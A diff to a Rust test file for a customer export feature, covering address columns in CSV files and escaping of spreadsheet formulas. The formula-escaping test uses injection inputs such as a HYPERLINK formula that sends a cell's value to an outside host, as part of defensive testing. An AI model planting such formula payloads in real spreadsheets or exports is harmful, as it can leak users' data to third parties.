@@ -95,8 +95,13 @@ async fn a_file_has_what_the_filter_finds(app: &TestApp) {
         assert!(!response.text.contains("argon2"), "{format} has password hashes");
         let disabled = parse(&export(app, format, &json!({"status": {"eq": 0}})).await.text);
         assert_eq!(uuids(&disabled), [first["uuid"].as_str().unwrap(), copies[7].as_str()], "{format}");
-        let addresses = disabled[0]["addresses"].to_string();
-        assert!(addresses.contains("1 Market Street"), "{format}: {addresses}");
+        let first = &disabled[0];
+        let address = if format == "csv" {
+            &first["addresses.1.address_1"]
+        } else {
+            &first["addresses"][0]["address_1"]
+        };
+        assert_eq!(address, "1 Market Street", "{format}: {first}");
         assert_eq!(parse(&export(app, format, &json!({})).await.text).len(), 251, "{format}");
     }
 }
@@ -107,7 +112,17 @@ async fn no_cell_begins_as_a_formula(app: &TestApp) {
     let definition =
         json!({"ownerType": "customer", "fieldKey": "note", "name": "Note", "fieldType": "short_text"});
     app.admin().post("/api/metafield-definitions", &definition).await.data();
-    let names = ["=HYPERLINK(\"https://x.io?\"&A1)", "+1", "-1", "@SUM(1)", "'=1", "'s Gravenhage", "1=1"];
+    let names = [
+        "=HYPERLINK(\"https://x.io?\"&A1)",
+        "+1+1",
+        "-A1",
+        "@SUM(1)",
+        "'=1",
+        "'+49 89",
+        "+49 (0)89 1-2",
+        "'s Gravenhage",
+        "1=1",
+    ];
     for (number, name) in names.iter().enumerate() {
         let email = format!("=c{number}@x.io");
         let body = json!({"email": email, "full_name": name, "password": "correct horse battery"});
@@ -118,18 +133,59 @@ async fn no_cell_begins_as_a_formula(app: &TestApp) {
     let file = export(app, "csv", &json!({})).await.text;
     let mut reader = csv::Reader::from_reader(file.as_bytes());
     for cells in reader.records() {
-        assert!(cells.unwrap().iter().all(|cell| !cell.starts_with(['=', '+', '-', '@'])), "{file}");
+        let is_safe = |cell: &str| !cell.starts_with(['=', '+', '-', '@']) || cell == "+49 (0)89 1-2";
+        assert!(cells.unwrap().iter().all(is_safe), "{file}");
     }
     let records = csv_records(&file);
     for column in ["full_name", "metafields.custom.note"] {
         let cells: Vec<&str> = records.iter().map(|record| record[column].as_str().unwrap()).collect();
-        let expected =
-            ["'=HYPERLINK(\"https://x.io?\"&A1)", "'+1", "'-1", "'@SUM(1)", "''=1", "'s Gravenhage", "1=1"];
+        let expected = [
+            "'=HYPERLINK(\"https://x.io?\"&A1)",
+            "'+1+1",
+            "'-A1",
+            "'@SUM(1)",
+            "''=1",
+            "''+49 89",
+            "+49 (0)89 1-2",
+            "'s Gravenhage",
+            "1=1",
+        ];
         assert_eq!(cells, expected, "{column}");
     }
     // JSON has no formulas.
     let records = ndjson_records(&export(app, "ndjson", &json!({})).await.text);
     assert!(records.iter().zip(names).all(|(record, name)| record["full_name"] == name), "{records:?}");
+}
+
+/// CSV has columns for as many addresses as a customer of the file has, and no file loses an address.
+#[apply(on_both_databases!)]
+async fn every_address_has_columns(app: &TestApp) {
+    for (email, addresses) in [("none@x.io", 0), ("one@x.io", 1), ("three@x.io", 3)] {
+        let row = app.register(email).await;
+        for number in 0..addresses {
+            app.add_address(&row, "US-CA", number == 1).await;
+        }
+    }
+    let count = |file: &str| {
+        let header = file.lines().next().unwrap().to_owned();
+        header.split(',').filter(|name| name.ends_with(".address_1")).count()
+    };
+    for (filter, expected) in [
+        (json!({}), 3),
+        (json!({"email": {"eq": "none@x.io"}}), 0),
+        (json!({"keyword": "one@x.io"}), 1),
+        (json!({"address": {"country": {"eq": "US"}}, "not": {"email": {"eq": "three@x.io"}}}), 1),
+        (json!({"status": {"eq": 0}}), 0),
+    ] {
+        let file = export(app, "csv", &filter).await;
+        assert_eq!((file.status, count(&file.text)), (200, expected), "{filter}: {}", file.text);
+    }
+    let records = csv_records(&export(app, "csv", &json!({})).await.text);
+    let defaults = |record: &Value| [1, 2, 3].map(|n| record[format!("addresses.{n}.is_default")].clone());
+    assert_eq!(defaults(&records[0]), ["", "", ""]);
+    assert_eq!(defaults(&records[1]), ["false", "", ""]);
+    // The default first, as imports read them.
+    assert_eq!(defaults(&records[2]), ["true", "false", "false"]);
 }
 
 #[apply(on_both_databases!)]
@@ -142,7 +198,7 @@ async fn a_file_without_customers_is_complete(app: &TestApp) {
     assert_eq!(csv.status, 200);
     assert_eq!(
         csv.text.trim_end(),
-        "uuid,status,group_name,full_name,email,email_verified_at,created_at,updated_at,meta_data,addresses,\
+        "uuid,status,group_name,full_name,email,email_verified_at,created_at,updated_at,meta_data,\
          metafields.custom.points"
     );
     let ndjson = export(app, "ndjson", &nothing).await;
